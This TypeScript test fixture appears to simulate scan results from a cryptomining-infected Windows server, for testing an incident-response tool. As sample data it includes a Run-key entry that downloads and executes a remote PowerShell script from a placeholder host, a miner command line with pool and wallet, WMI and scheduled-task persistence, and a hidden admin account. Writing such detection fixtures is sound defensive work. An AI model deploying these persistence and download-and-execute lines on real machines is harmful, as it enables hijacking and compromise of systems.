/**
 * What the scripts answer on a pretend Windows Server that mines, put together from what has been seen in incidents: a
 * miner named svchost.exe in %APPDATA%, a task that brings it back, a Run value that starts a script, a WMI consumer, a
 * Defender exclusion, sunk names. The forms are those that Microsoft documents for what each script asks (README.md
 * beside this file names the page for each).
 */
export const MINER = 'C:\\Users\\Administrator\\AppData\\Roaming\\svchost.exe';
export const SCRIPT = 'C:\\Users\\Public\\worm.vbs';
export const HOSTS = 'C:\\Windows\\System32\\drivers\\etc\\hosts';
export const POOL = '203.0.113.77';

/** https://learn.microsoft.com/windows/win32/sysinfo/file-times: 100 ns since 1601. */
export const BOOT = '134083584000000000';
const LATER = '134083620000000000';

const HOSTS_TEXT = [
  '# Copyright (c) 1993-2009 Microsoft Corp.',
  '127.0.0.1 localhost',
  '0.0.0.0 wdcp.microsoft.com',
  '10.0.0.9 intranet.example',
  '',
].join('\r\n');

const WINDOWS = {
  signature: 'Valid',
  signer: 'CN=Microsoft Windows, O=Microsoft Corporation, L=Redmond, S=Washington, C=US',
};

export function processRow(pid: number, path: string, more: object = {}): object {
  return {
    pid,
    parentPid: 700,
    created: LATER,
    name: path.slice(path.lastIndexOf('\\') + 1),
    path,
    commandLine: path,
    sessionId: 0,
    owner: 'NT AUTHORITY\\SYSTEM',
    cpuPercent: 0,
    signature: '',
    signer: '',
    ...more,
  };
}

export const ANSWERS: Readonly<Record<string, unknown>> = {
  'scan/facts': [
    {
      hostname: 'WEB-07',
      caption: 'Microsoft Windows Server 2022 Datacenter',
      version: '10.0.20348',
      architecture: '64-bit',
      boot: BOOT,
      upSeconds: 86400,
      cores: 4,
      memoryBytes: '17179869184',
      isElevated: true,
      account: 'WEB-07\\Administrator',
      rid: 500,
      hypervisorPresent: true,
      model: 'KVM',
      protectedPids: [4000, 3900],
      peers: [{ address: '198.51.100.7', port: 50022, localPort: 22 }],
      desktops: 0,
      hasFirewall: true,
    },
  ],
  'scan/processes': [
    processRow(0, '', { created: null, name: 'System Idle Process', cpuPercent: 3 }),
    processRow(4, '', { name: 'System' }),
    processRow(700, 'C:\\Windows\\System32\\svchost.exe', WINDOWS),
    processRow(5120, MINER, {
      commandLine: `"${MINER}" -o stratum+tcp://${POOL}:3333 -u 48edfHu7V9Z84YzzMa6fUueoELZ9ZRXq9VetWzYGzKt52XU5xvqgzYnDK9URnRoJMk1j8nLwEVsaSWJ4fhdUyZijBGUicoD --donate-level 1`,
      cpuPercent: 390.2,
      signature: 'NotSigned',
      owner: 'WEB-07\\Administrator',
    }),
    processRow(4000, 'C:\\Program Files\\tourniquet\\node.exe', {
      signature: 'Valid',
      signer: 'CN=OpenJS Foundation',
    }),
    processRow(2200, 'C:\\Program Files\\Shop\\shop.exe', { cpuPercent: 96, signature: 'NotSigned' }),
  ],
  'scan/connections': [
    ['198.51.100.7', 50022, 3900, 22, true],
    [POOL, 3333, 5120, 51000, false],
    ['192.0.2.10', 443, 2200, 51001, false],
  ].map(([remoteAddress, remotePort, pid, localPort, isIncoming]) => ({
    pid,
    localAddress: '10.0.0.4',
    localPort,
    remoteAddress,
    remotePort,
    state: 'Established',
    isIncoming,
  })),
  'scan/hosts-file': [{ path: HOSTS, bytes: Buffer.from(HOSTS_TEXT).toString('base64'), isUsualPlace: true }],
  'scan/scheduled-tasks': [
    ['\\', 'WindowsWatchdog', true, true, MINER],
    ['\\Microsoft\\Windows\\Defrag\\', 'ScheduledDefrag', true, true, 'C:\\Windows\\system32\\defrag.exe'],
    ['\\', 'WinUpdateSvc', false, false, ''],
  ].map(([path, name, isListed, hasDescriptor, execute]) => ({
    path,
    name,
    state: isListed ? 'Ready' : 'Unknown',
    author: '',
    user: 'SYSTEM',
    isHiddenFlag: false,
    isListed,
    hasDescriptor,
    actions: execute === '' ? [] : [{ kind: 'exec', execute, arguments: '', folder: '' }],
  })),
  'scan/run-keys': [
    {
      key: 'HKEY_LOCAL_MACHINE\\Software\\Microsoft\\Windows\\CurrentVersion\\Run',
      name: 'Updater',
      data: `wscript.exe //B "${SCRIPT}"; powershell -w hidden -c "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a.ps1')"`,
      kind: 'run',
    },
    {
      key: 'HKEY_LOCAL_MACHINE\\Software\\Microsoft\\Windows\\CurrentVersion\\Run',
      name: 'SecurityHealth',
      data: 'C:\\Windows\\system32\\SecurityHealthSystray.exe',
      kind: 'run',
    },
    {
      key: 'HKEY_LOCAL_MACHINE\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon',
      name: 'Shell',
      data: 'explorer.exe',
      kind: 'winlogon',
    },
  ],
  'scan/services': [
    ['WinRing0', 'C:\\Users\\Public\\xmrig.exe --service', ''],
    [
      'Dnscache',
      'C:\\Windows\\system32\\svchost.exe -k NetworkService',
      'C:\\Windows\\System32\\dnsrslvr.dll',
    ],
  ].map(([name, pathName, library]) => ({
    name,
    displayName: name,
    pathName,
    library,
    startMode: 'Auto',
    state: 'Running',
    account: 'LocalSystem',
    pid: 700,
  })),
  'scan/wmi-subscriptions': [
    {
      filter: 'SCM Event Log Filter',
      query: 'select * from MSFT_SCMEventLogEvent',
      consumer: 'SCM Event Log Consumer',
      class: 'NTEventLogEventConsumer',
      command: '',
    },
    {
      filter: 'fltr',
      query: "SELECT * FROM __InstanceModificationEvent WITHIN 60 WHERE TargetInstance ISA 'Win32_LocalTime'",
      consumer: 'cnsmr',
      class: 'CommandLineEventConsumer',
      command: `cmd.exe /c "${MINER}"`,
    },
  ],
  'scan/startup-folders': [],
  'scan/defender': [
    {
      exclusionPath: ['C:\\Users\\Administrator\\AppData\\Roaming'],
      exclusionProcess: [],
      exclusionExtension: [],
      switchedOff: ['DisableRealtimeMonitoring'],
      isRunning: true,
      mode: 'Normal',
    },
  ],
  'scan/firewall-profiles': ['Domain', 'Private', 'Public'].map((name) => ({
    name,
    enabled: name === 'Public' ? 'False' : 'True',
    inbound: 'Block',
    outbound: 'Allow',
    localRules: 'NotConfigured',
  })),
  'scan/accounts': [
    ['Administrator', 500, true],
    ['Guest', 501, false],
    ['support$', 1009, true],
  ].map(([name, rid, isEnabled]) => ({
    name,
    sid: `S-1-5-21-1-2-3-${rid}`,
    rid,
    isEnabled,
    isAdministrator: rid !== 501,
    passwordRequired: true,
    passwordChanged: LATER,
    lastLogon: null,
  })),
  'scan/sessions': [
    [1, 'WEB-07\\Administrator', true, 4100, true],
    [3, 'WEB-07\\support$', false, 4300, false],
  ].map(([id, account, isActive, leaderPid, isOwn]) => ({
    ...{ id, account, isActive, leaderPid, isOwn, isRemote: true, client: 'DESKTOP-7', leaderCreated: LATER },
  })),
  'scan/remote-desktop': [{ isOn: true, asksFirst: false, port: 3389 }],
  'scan/php-cgi': [
    {
      path: 'C:\\xampp\\php\\php-cgi.exe',
      version: '8.2.12',
      codePage: '950',
      isServerRunning: true,
      settings: [
        {
          path: 'C:\\xampp\\apache\\conf\\extra\\httpd-xampp.conf',
          line: 18,
          text: 'ScriptAlias /php-cgi/ "C:/xampp/php/"',
        },
      ],
    },
  ],
  'scan/updates': [
    {
      id: 'a1',
      title: '2026-11 Cumulative Update (KB5090001)',
      severity: 'Critical',
      articles: ['KB5090001'],
    },
  ],
  'scan/files': [HOSTS, MINER, 'C:\\Users\\Public\\xmrig.exe', SCRIPT].map((path, index) =>
    fileRow(path, index),
  ),
};

export function fileRow(path: string, index = 0, more: object = {}): object {
  return {
    path,
    sizeBytes: String(1000 + index),
    created: LATER,
    written: LATER,
    attributes: 32,
    isLink: false,
    sha256: String(index).repeat(64).slice(0, 64),
    ...more,
  };
}
